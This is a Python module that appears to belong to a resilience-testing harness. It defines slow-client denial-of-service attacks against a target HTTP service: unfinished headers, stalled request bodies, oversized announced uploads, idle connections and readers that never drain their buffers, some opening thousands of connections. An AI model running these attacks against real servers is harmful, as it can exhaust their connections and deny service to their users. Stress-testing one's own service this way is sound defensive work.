"""Clients that do not finish their requests or answers. They hold connections, and no thread."""

from __future__ import annotations

import contextlib
import itertools
import resource
import selectors
import socket
from collections.abc import Iterator

from .harness import ATTACKER, Control, Target, attack

_MB = 1 << 20
_HEAD = b"POST /v2/oauth2/token HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
_DESCRIPTION = b"GET /v0.10/openapi HTTP/1.1\r\nHost: localhost\r\n\r\n"


class Crowd:
    """Connections that begin in the same way, and begin again when the server closes them."""

    def __init__(
        self,
        address: tuple[str, int],
        beginning: bytes,
        count: int,
        *,
        window: int = 0,
        sources: Iterator[str] | None = None,
    ) -> None:
        """window: octets of answers for which each has room; 0: the default. sources: their own addresses, in turn."""
        _allow_files(count + 200)
        self._address, self._beginning, self._window = address, beginning, window
        self._sources = sources or itertools.repeat(ATTACKER)
        self._selector = selectors.DefaultSelector()
        self.ended = 0
        for _ in range(count):
            self._open()

    def _open(self) -> None:
        one = socket.socket()
        if self._window:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self._window)
        one.settimeout(10)
        try:
            one.bind((next(self._sources), 0))
            one.connect(self._address)
            one.sendall(self._beginning)
        except OSError:
            one.close()
            self.ended += 1
            return
        one.setblocking(False)
        self._selector.register(one, selectors.EVENT_READ)

    def _connections(self) -> Iterator[socket.socket]:
        for key in list(self._selector.get_map().values()):
            assert isinstance(key.fileobj, socket.socket)
            yield key.fileobj

    def _again(self, one: socket.socket) -> None:
        self._selector.unregister(one)
        one.close()
        self.ended += 1
        self._open()

    def send(self, octets: bytes) -> None:
        """By each."""
        for one in self._connections():
            try:
                one.send(octets)
            except BlockingIOError:
                continue
            except OSError:
                self._again(one)

    def look(self) -> None:
        """Begin again where the server has answered or closed the connection."""
        for key, _ in self._selector.select(0):
            assert isinstance(key.fileobj, socket.socket)
            self._again(key.fileobj)

    def close(self) -> None:
        for one in self._connections():
            one.close()


def _allow_files(count: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(count, hard)), hard))


def _drip(crowd: Crowd, control: Control, octets: bytes = b"x", *, takes: bool = True) -> None:
    """Send one octet after another until the end. takes: whether answers are read."""
    with contextlib.closing(crowd):
        control.begin()
        while not control.wait(1.0):
            crowd.send(octets)
            if takes:
                crowd.look()
        control.note(f"the server ended {crowd.ended} connections")


@attack("slow: 24 heads without an end")
def heads(target: Target, control: Control) -> None:
    _drip(Crowd(target.address, b"GET / HTTP/1.1\r\nX-Slow: ", 24), control)


@attack("slow: 1,000 heads without an end")
def many_heads(target: Target, control: Control) -> None:
    _drip(Crowd(target.address, b"GET / HTTP/1.1\r\nX-Slow: ", 1000), control)


@attack("slow: 3,000 connections that say nothing")
def silence(target: Target, control: Control) -> None:
    _drip(Crowd(target.address, b"", 3000), control, b"")


@attack("slow: 200 bodies that stop")
def bodies(target: Target, control: Control) -> None:
    _drip(Crowd(target.address, _HEAD + b"Content-Length: 60000\r\n\r\ngrant_type=", 200), control)


@attack("slow: 200 strangers announce 200 MB")
def announced(target: Target, control: Control) -> None:
    head = b"POST /v0.10/transfer HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    _drip(Crowd(target.address, head + b"Content-Length: %d\r\n\r\n" % (200 * _MB), 200), control, b"[" * 1000)


@attack("slow: a user announces 200 MB 100 times")
def of_a_user(target: Target, control: Control) -> None:
    token = target.user("slow").token.encode()
    head = b"POST /v0.10/transfer HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    head += b"Authorization: Bearer " + token + b"\r\nContent-Length: %d\r\n\r\n" % (200 * _MB)
    _drip(Crowd(target.address, head, 100), control, b"[" * 1000)


@attack("slow: 100 readers that take nothing")
def readers(target: Target, control: Control) -> None:
    _drip(Crowd(target.address, _DESCRIPTION * 4, 100, window=4096), control, b"", takes=False)
